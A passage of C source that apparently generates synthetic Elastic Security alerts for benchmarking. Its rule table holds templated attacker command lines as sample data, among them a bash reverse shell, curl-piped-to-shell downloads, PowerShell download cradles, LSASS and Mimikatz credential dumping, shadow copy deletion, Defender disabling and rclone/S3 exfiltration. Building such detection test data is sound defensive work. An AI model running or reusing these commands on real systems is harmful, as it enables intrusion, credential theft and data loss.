/* gen-alerts: writes synthetic Elastic Security alerts for the benchmarks. */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/*
 * Each line has the shape es-fetch emits for an Elastic 8.x detection alert:
 * the alert _source (flat kibana.* keys, nested ECS objects) followed by the
 * toolkit's `alert` summary and `elastic` {id, index}. Output depends only on
 * the arguments: the generator has its own PRNG and computes its logarithms
 * and exponentials itself, so the same arguments give the same bytes.
 */

enum { EXIT_OK = 0, EXIT_FAIL = 1, EXIT_USAGE = 2 };

#define LINE_CAP    8192
#define SCRATCH_CAP 1024
#define POOL_MAX    4000000
#define ZIPF_S      1.1 /* indicators, hosts, users */
#define RULE_ZIPF_S 0.9 /* rules: skewed, but less than indicators */

/* The alert stream starts at 2025-01-17T08:00:00.000Z. */
#define EPOCH_MS 1737100800000ULL

#define KIBANA_VERSION "8.15.3"
#define ALERTS_INDEX   ".internal.alerts-security.alerts-default-000001"

struct opts {
	uint64_t count;
	uint64_t seed;
	uint32_t n_ips;
	uint32_t n_hashes;
};

/* A bounded byte buffer; running out of room is a bug in this file. */
struct buf {
	char *p;
	size_t n, cap;
	int overflow;
};

/* xoshiro256**, seeded through splitmix64 as its authors recommend. */
struct rng {
	uint64_t s[4];
};

/* Cumulative weights of a Zipf distribution over ranks 0..n-1. */
struct zipf {
	double *cdf;
	uint32_t n;
};

enum os { OS_WIN, OS_LINUX, OS_MAC, OS_AWS };
enum kind { K_PROC, K_NET, K_FILE, K_REG, K_AUTH, K_MAL };
enum { F_IN = 1, F_DOM = 2 };

/*
 * A detection rule and the activity that trips it. The string fields after
 * `kind` are templates expanded per alert by expand() ($u user, $H host, $d
 * domain, $i remote IP, $p remote port, $l target pid, $x/$X 8/16 hex digits,
 * $n number, $f payload file, $w word, $r region, $a AWS account, $E encoded
 * PowerShell, $$ a dollar sign).
 */
struct rule {
	const char *name;
	const char *severity;
	int risk;
	enum os os;
	const char *tactic;
	enum kind kind;
	const char *proc, *exe, *parent, *cmd;
	const char *file, *url, *dns;
	unsigned port;
	unsigned flags;
};

#define SYS32 "C:\\Windows\\System32\\"
#define PSEXE SYS32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define TEMP  "C:\\Users\\$u\\AppData\\Local\\Temp\\"

/* Ordered by how often each fires: the table's head dominates the stream. */
static const struct rule rules[] = {
        {"Whoami Process Activity", "low", 21, OS_WIN, "Discovery", K_PROC,
         "cmd.exe", SYS32 "cmd.exe", "$f",
         "C:\\Windows\\system32\\cmd.exe /c \"whoami /all > "
         "C:\\Users\\Public\\$x.txt && systeminfo >> "
         "C:\\Users\\Public\\$x.txt\"",
         NULL, NULL, NULL, 443, 0},
        {"Suspicious PowerShell Encoded Command", "medium", 47, OS_WIN,
         "Execution", K_PROC, "powershell.exe", PSEXE, "cmd.exe",
         "\"" PSEXE "\" -NoP -NonI -W Hidden -ExecutionPolicy Bypass -enc $E",
         NULL, NULL, NULL, 443, F_DOM},
        {"Connection to Commonly Abused Web Services", "low", 21, OS_WIN,
         "Command and Control", K_NET, "$f", TEMP "$f", "explorer.exe",
         "\"" TEMP "$f\" -connect https://$d/api/v1/$x -interval 60 -jitter 30",
         NULL, "https://$d/api/v1/$x", "$d", 443, F_DOM},
        {"Potential Credential Access via LSASS Memory Dump", "high", 73,
         OS_WIN, "Credential Access", K_PROC, "rundll32.exe",
         SYS32 "rundll32.exe", "powershell.exe",
         "\"" SYS32 "rundll32.exe\" " SYS32 "comsvcs.dll, MiniDump $l " TEMP
         "$x.dmp full",
         TEMP "$x.dmp", NULL, NULL, 443, 0},
        {"Startup or Run Key Registry Modification", "low", 21, OS_WIN,
         "Persistence", K_REG, "reg.exe", SYS32 "reg.exe", "cmd.exe",
         "reg.exe add "
         "\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v "
         "\"$w\" /t REG_SZ /d \"C:\\Users\\$u\\AppData\\Roaming\\$w\\$f\" /f",
         NULL, NULL, NULL, 443, 0},
        {"Potential SSH Brute Force Detected", "medium", 47, OS_LINUX,
         "Credential Access", K_AUTH, "sshd", "/usr/sbin/sshd", "sshd",
         "/usr/sbin/sshd -D -o "
         "AuthorizedKeysCommand=/usr/share/ec2-instance-connect/"
         "eic_run_authorized_keys %u %f -o "
         "AuthorizedKeysCommandUser=ec2-instance-connect",
         NULL, NULL, NULL, 22, F_IN},
        {"Malware Detection Alert", "critical", 99, OS_WIN, "Execution", K_MAL,
         "$f", "C:\\Users\\$u\\Downloads\\$f", "explorer.exe",
         "\"C:\\Users\\$u\\Downloads\\$f\" /S "
         "/D=C:\\Users\\$u\\AppData\\Local\\Programs\\$w",
         "C:\\Users\\$u\\Downloads\\$f", "https://$d/dl/$f", NULL, 443, F_DOM},
        {"User Account Creation", "low", 21, OS_WIN, "Persistence", K_PROC,
         "net.exe", SYS32 "net.exe", "cmd.exe",
         "\"" SYS32 "net.exe\" user svc_$w \"Winter$n!\" /add "
         "/fullname:\"Backup Service\" /comment:\"managed by IT\" /domain",
         NULL, NULL, NULL, 445, 0},
        {"Suspicious MS Office Child Process", "medium", 47, OS_WIN,
         "Initial Access", K_PROC, "cmd.exe", SYS32 "cmd.exe", "WINWORD.EXE",
         "C:\\Windows\\system32\\cmd.exe /c \"powershell -w hidden -c "
         "\\\"iwr http://$d/$f -OutFile $$env:APPDATA\\$f; start "
         "$$env:APPDATA\\$f\\\"\"",
         "C:\\Users\\$u\\Documents\\Invoice_$n.docm", "http://$d/$f", NULL, 80,
         F_DOM},
        {"Cron Job Created or Modified", "low", 21, OS_LINUX, "Persistence",
         K_FILE, "bash", "/usr/bin/bash", "sshd",
         "/bin/bash -c \"(crontab -l 2>/dev/null; echo '*/5 * * * * curl "
         "-fsSL http://$d/$w.sh | sh') | crontab -\"",
         "/var/spool/cron/crontabs/$u", NULL, NULL, 80, F_DOM},
        {"Execution of File Written or Modified by Microsoft Office", "high",
         73, OS_WIN, "Execution", K_PROC, "$f", TEMP "$f", "explorer.exe",
         "\"" TEMP "$f\" --install --silent --config \"" TEMP "$x.dat\"",
         TEMP "$f", NULL, NULL, 443, 0},
        {"Suspicious CertUtil Commands", "medium", 47, OS_WIN,
         "Defense Evasion", K_PROC, "certutil.exe", SYS32 "certutil.exe",
         "cmd.exe",
         "certutil.exe -urlcache -split -f \"http://$d/$f\" \"" TEMP "$f\"",
         TEMP "$f", "http://$d/$f", "$d", 80, F_DOM},
        {"PsExec Network Connection", "low", 21, OS_WIN, "Execution", K_NET,
         "PsExec.exe", "C:\\Tools\\PsExec.exe", "cmd.exe",
         "\"C:\\Tools\\PsExec.exe\" \\\\$i -accepteula -s -d cmd.exe /c "
         "\"C:\\Windows\\Temp\\$f\"",
         NULL, NULL, NULL, 445, 0},
        {"Scheduled Task Created by a Windows Script", "medium", 47, OS_WIN,
         "Persistence", K_PROC, "schtasks.exe", SYS32 "schtasks.exe",
         "wscript.exe",
         "\"" SYS32 "schtasks.exe\" /Create /F /SC ONLOGON /RL HIGHEST /TN "
         "\"\\Microsoft\\Windows\\$w\\$wUpdate\" /TR "
         "\"C:\\ProgramData\\$w\\$f\"",
         NULL, NULL, NULL, 443, 0},
        {"Clearing Windows Event Logs", "low", 21, OS_WIN, "Defense Evasion",
         K_PROC, "wevtutil.exe", SYS32 "wevtutil.exe", "cmd.exe",
         "\"" SYS32 "wevtutil.exe\" cl "
         "\"Microsoft-Windows-PowerShell/Operational\" /r:$H",
         NULL, NULL, NULL, 443, 0},
        {"Disabling Windows Defender Security Settings via PowerShell",
         "medium", 47, OS_WIN, "Defense Evasion", K_PROC, "powershell.exe",
         PSEXE, "cmd.exe",
         "powershell.exe -NoProfile -Command \"Set-MpPreference "
         "-DisableRealtimeMonitoring $$true -DisableIOAVProtection $$true; "
         "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\$w'\"",
         NULL, NULL, NULL, 443, 0},
        {"Enumeration of Domain Trusts", "low", 21, OS_WIN, "Discovery", K_PROC,
         "nltest.exe", SYS32 "nltest.exe", "cmd.exe",
         "\"" SYS32 "nltest.exe\" /domain_trusts /all_trusts /v "
         "/server:srv-dc01.corp.internal",
         NULL, NULL, NULL, 389, 0},
        {"Suspicious Download Piped to Shell", "medium", 47, OS_LINUX,
         "Command and Control", K_NET, "curl", "/usr/bin/curl", "bash",
         "/bin/sh -c \"curl -fsSL http://$d/$w.sh | bash -s -- --quiet "
         "--no-banner --install-dir /var/tmp/.$w\"",
         NULL, "http://$d/$w.sh", "$d", 80, F_DOM},
        {"Potential DNS Tunneling via NsLookup", "low", 21, OS_WIN,
         "Command and Control", K_PROC, "nslookup.exe", SYS32 "nslookup.exe",
         "powershell.exe",
         "\"" SYS32 "nslookup.exe\" -querytype=TXT -timeout=10 $x$X.$d $i",
         NULL, NULL, "$x$X.$d", 53, F_DOM},
        {"Modification of Boot Configuration", "low", 21, OS_WIN, "Impact",
         K_PROC, "bcdedit.exe", SYS32 "bcdedit.exe", "cmd.exe",
         "\"" SYS32 "bcdedit.exe\" /set {default} bootstatuspolicy "
         "ignoreallfailures",
         NULL, NULL, NULL, 443, 0},
        {"Mshta Making Network Connections", "medium", 47, OS_WIN,
         "Defense Evasion", K_NET, "mshta.exe", SYS32 "mshta.exe",
         "explorer.exe",
         "\"" SYS32 "mshta.exe\" vbscript:Execute(\"CreateObject(\"\"Wscript."
         "Shell\"\").Run \"\"powershell -nop -w hidden -c "
         "iex(iwr http://$d/$f)\"\":close\")",
         NULL, "http://$d/$f", "$d", 80, F_DOM},
        {"Sudoers File Modification", "medium", 47, OS_LINUX,
         "Privilege Escalation", K_FILE, "sh", "/usr/bin/dash", "bash",
         "/bin/sh -c \"echo '$u ALL=(ALL) NOPASSWD:ALL' >> "
         "/etc/sudoers.d/90-cloud-init-users && chmod 440 "
         "/etc/sudoers.d/90-cloud-init-users\"",
         "/etc/sudoers.d/90-cloud-init-users", NULL, NULL, 443, 0},
        {"Volume Shadow Copy Deletion via VssAdmin", "high", 73, OS_WIN,
         "Impact", K_PROC, "cmd.exe", SYS32 "cmd.exe", "$f",
         "C:\\Windows\\system32\\cmd.exe /c vssadmin.exe Delete Shadows /All "
         "/Quiet & wmic shadowcopy delete & bcdedit /set {default} "
         "recoveryenabled No",
         NULL, NULL, NULL, 443, 0},
        {"Remote Script Execution via Regsvr32", "medium", 47, OS_WIN,
         "Defense Evasion", K_NET, "regsvr32.exe", SYS32 "regsvr32.exe",
         "cmd.exe",
         "\"" SYS32 "regsvr32.exe\" /s /n /u /i:http://$d/$w.sct scrobj.dll",
         NULL, "http://$d/$w.sct", "$d", 80, F_DOM},
        {"Apple Script Execution followed by Network Connection", "medium", 47,
         OS_MAC, "Execution", K_NET, "osascript", "/usr/bin/osascript", "bash",
         "osascript -e 'do shell script \"curl -s http://$d/$f -o /tmp/$f && "
         "chmod +x /tmp/$f && /tmp/$f\"'",
         NULL, "http://$d/$f", "$d", 80, F_DOM},
        {"Suspicious WMIC XSL Script Execution", "medium", 47, OS_WIN,
         "Defense Evasion", K_PROC, "WMIC.exe", SYS32 "wbem\\WMIC.exe",
         "cmd.exe",
         "\"" SYS32 "wbem\\WMIC.exe\" os get /format:\"https://$d/$w.xsl\"",
         NULL, "https://$d/$w.xsl", NULL, 443, F_DOM},
        {"Potential Reverse Shell Activity via Terminal", "high", 73, OS_LINUX,
         "Execution", K_NET, "bash", "/usr/bin/bash", "python3",
         "/bin/bash -c \"nohup bash -i >& /dev/tcp/$i/$p 0>&1 2>/dev/null & "
         "disown; history -c\"",
         NULL, NULL, NULL, 4444, 0},
        {"Kernel Module Load via insmod", "medium", 47, OS_LINUX, "Persistence",
         K_PROC, "insmod", "/usr/sbin/insmod", "bash",
         "/usr/sbin/insmod /lib/modules/5.15.0-1051-aws/kernel/drivers/$w/"
         "$w_mod.ko debug=0 hide_pid=1",
         NULL, NULL, NULL, 443, 0},
        {"RDP Enabled via Registry", "medium", 47, OS_WIN, "Lateral Movement",
         K_REG, "reg.exe", SYS32 "reg.exe", "cmd.exe",
         "reg.exe add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal "
         "Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
         NULL, NULL, NULL, 3389, 0},
        {"Potential Exfiltration via Rclone", "high", 73, OS_WIN,
         "Exfiltration", K_NET, "rclone.exe",
         "C:\\Users\\$u\\Downloads\\rclone.exe", "cmd.exe",
         "\"C:\\Users\\$u\\Downloads\\rclone.exe\" copy "
         "\"\\\\srv-fs01\\Finance\" remote:$w-backup --transfers 16 "
         "--multi-thread-streams 8 --no-check-certificate -q "
         "--ignore-existing --auto-confirm",
         NULL, NULL, "$d", 443, F_DOM},
        {"Incoming Execution via PowerShell Remoting", "medium", 47, OS_WIN,
         "Lateral Movement", K_NET, "powershell.exe", PSEXE, "wsmprovhost.exe",
         "\"" PSEXE "\" -NoLogo -NonInteractive -Command \"Invoke-Command "
         "-ScriptBlock { Get-ChildItem C:\\Users\\$u\\Documents -Recurse }\"",
         NULL, NULL, NULL, 5985, F_IN},
        {"Launch Agent Creation or Modification and Immediate Loading",
         "medium", 47, OS_MAC, "Persistence", K_FILE, "launchctl",
         "/bin/launchctl", "bash",
         "launchctl load -w /Users/$u/Library/LaunchAgents/com.apple.$w.plist "
         "&& launchctl start com.apple.$w",
         "/Users/$u/Library/LaunchAgents/com.apple.$w.plist", NULL, NULL, 443,
         0},
        {"Potential Remote Desktop Tunneling Detected", "medium", 47, OS_WIN,
         "Command and Control", K_NET, "plink.exe",
         "C:\\Users\\Public\\plink.exe", "cmd.exe",
         "\"C:\\Users\\Public\\plink.exe\" -ssh -P 22 -l root -pw "
         "\"Passw0rd$n\" -R $i:3389:127.0.0.1:3389 $i",
         NULL, NULL, NULL, 22, 0},
        {"Potential Data Exfiltration via AWS CLI", "high", 73, OS_AWS,
         "Exfiltration", K_NET, "aws", "/usr/local/bin/aws", "bash",
         "aws s3 sync /var/lib/postgresql/backups s3://$w-$x-exfil/$H/ "
         "--region $r --no-progress --only-show-errors",
         NULL, NULL, "s3.$r.amazonaws.com", 443, 0},
        {"Unusual Network Connection via RunDLL32", "high", 73, OS_WIN,
         "Defense Evasion", K_NET, "rundll32.exe", SYS32 "rundll32.exe",
         "explorer.exe",
         "\"" SYS32 "rundll32.exe\" " TEMP "$x.dll,DllRegisterServer $d",
         TEMP "$x.dll", NULL, "$d", 443, F_DOM},
        {"Potential Linux Credential Dumping via Unshadow", "medium", 47,
         OS_LINUX, "Credential Access", K_PROC, "sh", "/usr/bin/dash", "bash",
         "/bin/sh -c \"unshadow /etc/passwd /etc/shadow > /tmp/.$x && john "
         "--wordlist=/usr/share/wordlists/rockyou.txt /tmp/.$x\"",
         "/tmp/.$x", NULL, NULL, 443, 0},
        {"Suspicious Crypto Miner Execution", "high", 73, OS_LINUX, "Impact",
         K_NET, "$f", "/var/tmp/.$w/$f", "bash",
         "/var/tmp/.$w/$f --url=pool.$d:$p --user=4$X$x --pass=x "
         "--donate-level=1 --cpu-max-threads-hint=75 --background",
         "/var/tmp/.$w/$f", NULL, "pool.$d", 3333, F_DOM},
        {"AWS IAM Access Key Created via CLI", "medium", 47, OS_AWS,
         "Persistence", K_NET, "aws", "/usr/local/bin/aws", "bash",
         "aws iam create-access-key --user-name svc-$w --profile default "
         "--output json --region $r --cli-connect-timeout 5",
         NULL, NULL, "iam.amazonaws.com", 443, 0},
        {"Potential Credentials Phishing via OSASCRIPT", "high", 73, OS_MAC,
         "Credential Access", K_PROC, "osascript", "/usr/bin/osascript", "$f",
         "osascript -e 'display dialog \"macOS wants to make changes. Enter "
         "your password to allow this.\" default answer \"\" with hidden "
         "answer with title \"System Preferences\"'",
         NULL, NULL, NULL, 443, 0},
        {"Ransomware Detection Alert", "critical", 99, OS_WIN, "Impact", K_MAL,
         "$f", "C:\\ProgramData\\$f", "explorer.exe",
         "\"C:\\ProgramData\\$f\" -path C:\\Users -nolog -ext .$w -key $X$x",
         "C:\\Users\\$u\\Documents\\Q3-forecast.xlsx.$w", NULL, NULL, 443, 0},
        {"Potential Mimikatz Credential Dumping", "critical", 99, OS_WIN,
         "Credential Access", K_PROC, "$f", TEMP "$f", "powershell.exe",
         "\"" TEMP "$f\" \"privilege::debug\" \"sekurlsa::logonpasswords\" "
         "\"lsadump::sam\" exit",
         TEMP "$f", NULL, NULL, 443, 0},
};
#define NRULES (sizeof(rules) / sizeof(rules[0]))

/* What each kind of source event looks like once it became an alert. */
static const struct kind_info {
	const char *category; /* body of the event.category array */
	const char *action;
	const char *dataset;
	const char *module;
	const char *word; /* opens kibana.alert.reason */
} kinds[] = {
        [K_PROC] = {"\"process\"", "start", "endpoint.events.process",
                    "endpoint", "process"},
        [K_NET] = {"\"network\"", "connection_attempted",
                   "endpoint.events.network", "endpoint", "network"},
        [K_FILE] = {"\"file\"", "creation", "endpoint.events.file", "endpoint",
                    "file"},
        [K_REG] = {"\"registry\"", "modification", "endpoint.events.registry",
                   "endpoint", "registry"},
        [K_AUTH] = {"\"authentication\"", "ssh_login", "system.auth", "system",
                    "authentication"},
        [K_MAL] = {"\"malware\",\"intrusion_detection\",\"process\"",
                   "execution", "endpoint.alerts", "endpoint", "malware"},
};

static const struct os_info {
	const char *name, *platform, *version, *tag;
} os_versions[] = {
        {"Windows 11 Enterprise", "windows", "23H2", "Windows"},
        {"Windows 10 Enterprise", "windows", "22H2", "Windows"},
        {"Windows 10 Pro", "windows", "21H2", "Windows"},
        {"Windows Server 2022 Datacenter", "windows", "21H2", "Windows"},
        {"Windows Server 2019 Standard", "windows", "1809", "Windows"},
        {"Ubuntu", "ubuntu", "22.04", "Linux"},
        {"Ubuntu", "ubuntu", "20.04", "Linux"},
        {"Amazon Linux", "amzn", "2023", "Linux"},
        {"Red Hat Enterprise Linux", "rhel", "9.3", "Linux"},
        {"macOS", "darwin", "14.4.1", "macOS"},
        {"macOS", "darwin", "13.6.6", "macOS"},
};

static const char *const first_names[] = {
        "alice",  "bob",    "carol",  "david",  "emma",   "frank", "grace",
        "henry",  "irene",  "jack",   "karen",  "liam",   "maria", "nathan",
        "olivia", "peter",  "quinn",  "rachel", "samuel", "tina",  "umar",
        "victor", "wendy",  "xavier", "yusuf",  "zoe",    "ahmed", "beatriz",
        "chen",   "dmitri", "elena",  "fatima", "giulia", "hiro",  "ingrid",
        "jamal",  "keiko",  "lucas",  "mei",    "noah",
};
static const char *const last_names[] = {
        "nguyen",   "smith",  "garcia",  "mueller", "rossi",    "kowalski",
        "tanaka",   "okafor", "johnson", "brown",   "dubois",   "silva",
        "petrov",   "kim",    "haddad",  "jensen",  "murphy",   "novak",
        "fischer",  "santos", "ivanova", "patel",   "schmidt",  "walker",
        "yamamoto", "lopez",  "martin",  "weber",   "andersen", "costa",
        "ali",      "chen",   "khan",    "berg",    "moreau",   "lee",
        "wilson",   "baker",  "clark",   "evans",
};
#define NFIRST (sizeof(first_names) / sizeof(first_names[0]))
#define NLAST  (sizeof(last_names) / sizeof(last_names[0]))

/* Service accounts dominate activity on servers. */
static const char *const linux_accounts[] = {
        "root",    "ubuntu",   "ec2-user",      "deploy",        "www-data",
        "jenkins", "postgres", "ansible",       "gitlab-runner", "nginx",
        "admin",   "backup",   "elasticsearch", "redis",         "mysql",
};
#define NLINUX_ACCOUNTS (sizeof(linux_accounts) / sizeof(linux_accounts[0]))

static const char *const win_files[] = {
        "update.exe",        "svchost.exe",   "invoice_2025.exe",
        "setup.exe",         "AdobeARM.exe",  "OneDriveUpdater.exe",
        "chrome_proxy.exe",  "mimi64.exe",    "TeamViewer_Setup.exe",
        "WinRAR-x64.exe",    "msedge_up.exe", "zoom_installer.exe",
        "ScreenConnect.exe", "AnyDesk.exe",   "7z2301-x64.exe",
        "RuntimeBroker.exe",
};
static const char *const unix_files[] = {
        "kworker",   "dbus-daemon", "systemd-udevd", "x86_64",
        "apache2",   "sshd",        "kdevtmpfsi",    "xmrig",
        ".ICE-unix", "cron",        "watchdog",      "ksoftirqd",
};
static const char *const mac_files[] = {
        "UpdateHelper", "Installer",     "ZoomUs",  "GoogleSoftwareUpdate",
        "SafariHelper", "com.apple.cfg", "Finder2", "AdobeCleaner",
};
static const char *const words[] = {
        "update",  "sync",    "helper",  "telemetry", "backup", "cache",
        "agent",   "monitor", "service", "runtime",   "loader", "manager",
        "updater", "broker",  "health",  "scheduler",
};
#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

/* Halves of generated domain names, joined as "a-b.tld" or "a.b.tld". */
static const char *const dom_a[] = {
        "cdn",      "update",  "secure",    "login",  "cloud",   "sync",
        "static",   "api",     "files",     "portal", "mail",    "docs",
        "drive",    "share",   "service",   "micro",  "support", "help",
        "data",     "metrics", "telemetry", "img",    "content", "edge",
        "download", "auth",
};
static const char *const dom_b[] = {
        "check", "center", "verify", "office", "storage", "hub",   "zone",
        "point", "stream", "link",   "host",   "net",     "space", "works",
        "base",  "flow",   "box",    "gate",   "ops",     "stack", "desk",
        "vault", "cast",   "dock",   "lab",    "grid",
};
static const char *const tlds[] = {
        "com", "net",  "org", "io", "xyz",  "top",
        "ru",  "info", "biz", "cc", "site", "online",
};

static const char *const regions[] = {
        "us-east-1", "us-east-2",    "us-west-2",
        "eu-west-1", "eu-central-1", "ap-southeast-2",
};
static const char *const accounts[] = {
        "123456789012",
        "210987654321",
        "555512340987",
        "874326159042",
};

/* Scripts hidden behind -enc; short enough to keep the command line short. */
static const char *const ps_scripts[] = {
        "IEX (New-Object Net.WebClient).DownloadString('http://$d/$f')",
        "Start-BitsTransfer https://$d/$f $$env:TEMP\\$f",
        "Set-MpPreference -DisableRealtimeMonitoring $$true",
        "iwr -useb http://$i:$p/a|iex",
        "$$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('$X'))",
};

#define N_WIN_HOSTS   240
#define N_LINUX_HOSTS 150
#define N_MAC_HOSTS   50
#define N_AWS_HOSTS   (N_LINUX_HOSTS - N_LINUX_HOSTS / 3)
#define N_PEOPLE      400
#define N_DOMAINS     800

struct host {
	char name[40];
	char id[37];
	char agent_id[37];
	char ip[16];
	const struct os_info *os;
	int cloud; /* runs on EC2 */
	const char *account, *region;
	char instance[20];
};

/* Everything drawn up front; per-alert work only picks from it. */
struct world {
	uint64_t key;
	uint32_t *ips;
	uint32_t n_ips, n_hashes;
	struct host hosts[N_WIN_HOSTS + N_LINUX_HOSTS + N_MAC_HOSTS];
	char people[N_PEOPLE][24];
	char domains[N_DOMAINS][40];
	char rule_uuid[NRULES][37];
	char rule_id[NRULES][37];
	struct zipf z_ips, z_hashes, z_win, z_linux, z_mac, z_aws, z_people,
	        z_accounts, z_domains, z_rules;
};

/* Values of one alert that templates refer to. */
struct ctx {
	const char *user, *hostname, *domain, *file, *region, *account;
	char word[24];
	char ip[16];
	unsigned port, lpid, num;
	char hex8[9], hex16[17];
	char enc[SCRATCH_CAP];
};

static const char hexdigits[] = "0123456789abcdef";

static uint64_t
splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* A stateless hash, so that pool element i is the same whatever was drawn. */
static uint64_t
mix64(uint64_t key, uint64_t pool, uint64_t i)
{
	uint64_t x = key ^ (pool << 48) ^ i;

	return splitmix64(&x);
}

static void
rng_init(struct rng *r, uint64_t seed)
{
	uint64_t x = seed;
	int i;

	for (i = 0; i < 4; i++)
		r->s[i] = splitmix64(&x);
}

static uint64_t
rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

static uint64_t
rng_next(struct rng *r)
{
	uint64_t *s = r->s;
	uint64_t res = rotl(s[1] * 5, 7) * 9;
	uint64_t t = s[1] << 17;

	s[2] ^= s[0];
	s[3] ^= s[1];
	s[1] ^= s[2];
	s[0] ^= s[3];
	s[2] ^= t;
	s[3] = rotl(s[3], 45);
	return res;
}

/* Returns a value in [0, n); the modulo bias is irrelevant at these sizes. */
static uint32_t
rng_below(struct rng *r, uint32_t n)
{
	return (uint32_t)((rng_next(r) >> 32) % n);
}

static double
rng_unit(struct rng *r)
{
	return (double)(rng_next(r) >> 11) * 0x1.0p-53;
}

#define LN2 0.69314718055994530942

/*
 * ln(x) for x >= 1 and exp(x) for x <= 0, by series, instead of libm: the
 * Zipf weights then have the same bits on every machine and the build needs
 * no -lm.
 */
static double
ln_ge1(double x)
{
	double e = 0, z, z2, term, sum = 0;
	int k;

	while (x >= 2.0) {
		x *= 0.5;
		e += 1;
	}
	z = (x - 1) / (x + 1);
	z2 = z * z;
	term = z;
	for (k = 1; k < 64; k += 2) {
		sum += term / k;
		term *= z2;
	}
	return e * LN2 + 2 * sum;
}

static double
exp_le0(double x)
{
	double term = 1, sum = 1, r;
	int n = 0, k;

	while (x < -LN2) {
		x += LN2;
		n++;
	}
	r = x;
	for (k = 1; k < 30; k++) {
		term *= r / k;
		sum += term;
	}
	while (n-- > 0)
		sum *= 0.5;
	return sum;
}

/* Returns 0, or -1 when out of memory. Rank k has weight 1/(k+1)^s. */
static int
zipf_init(struct zipf *z, uint32_t n, double s)
{
	double total = 0;
	uint32_t k;

	z->n = n;
	z->cdf = malloc((size_t)n * sizeof(*z->cdf));
	if (z->cdf == NULL)
		return -1;
	for (k = 0; k < n; k++) {
		total += exp_le0(-s * ln_ge1((double)k + 1));
		z->cdf[k] = total;
	}
	for (k = 0; k < n; k++)
		z->cdf[k] /= total;
	return 0;
}

static uint32_t
zipf_draw(const struct zipf *z, struct rng *r)
{
	double u = rng_unit(r);
	uint32_t lo = 0, hi = z->n - 1;

	while (lo < hi) {
		uint32_t mid = lo + (hi - lo) / 2;

		if (z->cdf[mid] > u)
			hi = mid;
		else
			lo = mid + 1;
	}
	return lo;
}

static void
put(struct buf *b, const char *s, size_t n)
{
	if (n > b->cap - b->n) {
		b->overflow = 1;
		return;
	}
	memcpy(b->p + b->n, s, n);
	b->n += n;
}

#define PUTL(b, lit) put((b), (lit), sizeof(lit) - 1)

static void
puts_raw(struct buf *b, const char *s)
{
	put(b, s, strlen(s));
}

static void
putc_raw(struct buf *b, char c)
{
	put(b, &c, 1);
}

/* Writes s as a JSON string: quotes, backslashes and controls escaped. */
static void
put_jstr(struct buf *b, const char *s, size_t n)
{
	size_t i, start = 0;

	/* One lookup per byte: '1' marks the bytes that need no escape. */
	static const char clean[] = "00000000000000000000000000000000"
	                            "11011111111111111111111111111111"
	                            "11111111111111111111111111110111"
	                            "11111111111111111111111111111111"
	                            "11111111111111111111111111111111"
	                            "11111111111111111111111111111111"
	                            "11111111111111111111111111111111"
	                            "11111111111111111111111111111111";

	putc_raw(b, '"');
	for (i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];
		char esc[6] = {'\\', 'u', '0', '0', 0, 0};

		if (clean[c] == '1')
			continue;
		put(b, s + start, i - start);
		start = i + 1;
		if (c == '"' || c == '\\') {
			esc[1] = (char)c;
			put(b, esc, 2);
		} else {
			esc[4] = hexdigits[c >> 4];
			esc[5] = hexdigits[c & 15];
			put(b, esc, 6);
		}
	}
	put(b, s + start, n - start);
	putc_raw(b, '"');
}

static void
put_js(struct buf *b, const char *s)
{
	put_jstr(b, s, strlen(s));
}

static void
put_u64(struct buf *b, uint64_t v)
{
	char tmp[20];
	int i = (int)sizeof(tmp);

	do {
		tmp[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v != 0);
	put(b, tmp + i, sizeof(tmp) - (size_t)i);
}

static void
put_hex(struct buf *b, uint64_t v, int digits)
{
	char tmp[16];
	int i;

	for (i = digits - 1; i >= 0; i--) {
		tmp[i] = hexdigits[v & 15];
		v >>= 4;
	}
	put(b, tmp, (size_t)digits);
}

/* Fills out[37] with a version 4 UUID made of a and b. */
static void
fmt_uuid(char *out, uint64_t a, uint64_t b)
{
	static const int dash[] = {8, 13, 18, 23};
	int i, j = 0, d = 0;

	a = (a & ~0xf000ULL) | 0x4000ULL;
	b = (b & ~(3ULL << 62)) | (2ULL << 62);
	for (i = 0; i < 36; i++) {
		uint64_t *src = j < 16 ? &a : &b;

		if (d < 4 && i == dash[d]) {
			out[i] = '-';
			d++;
			continue;
		}
		out[i] = hexdigits[(*src >> 60) & 15];
		*src <<= 4;
		j++;
	}
	out[36] = '\0';
}

static void
fmt_ip(char *out, uint32_t ip)
{
	struct buf b = {out, 0, 15, 0};
	int i;

	for (i = 3; i >= 0; i--) {
		put_u64(&b, (ip >> (8 * i)) & 255);
		if (i > 0)
			putc_raw(&b, '.');
	}
	out[b.n] = '\0';
}

/* Public unicast: outside every special-purpose and documentation range. */
static int
ip_is_public(uint32_t ip)
{
	static const struct {
		uint32_t net, mask;
	} reserved[] = {
	        {0x00000000, 0xff000000}, /* 0/8 this network */
	        {0x0a000000, 0xff000000}, /* 10/8 private */
	        {0x64400000, 0xffc00000}, /* 100.64/10 CGNAT */
	        {0x7f000000, 0xff000000}, /* 127/8 loopback */
	        {0xa9fe0000, 0xffff0000}, /* 169.254/16 link-local */
	        {0xac100000, 0xfff00000}, /* 172.16/12 private */
	        {0xc0000000, 0xffffff00}, /* 192.0.0/24 protocol assignments */
	        {0xc0000200, 0xffffff00}, /* 192.0.2/24 TEST-NET-1 */
	        {0xc0586300, 0xffffff00}, /* 192.88.99/24 6to4 relay */
	        {0xc0a80000, 0xffff0000}, /* 192.168/16 private */
	        {0xc6120000, 0xfffe0000}, /* 198.18/15 benchmarking */
	        {0xc6336400, 0xffffff00}, /* 198.51.100/24 TEST-NET-2 */
	        {0xcb007100, 0xffffff00}, /* 203.0.113/24 TEST-NET-3 */
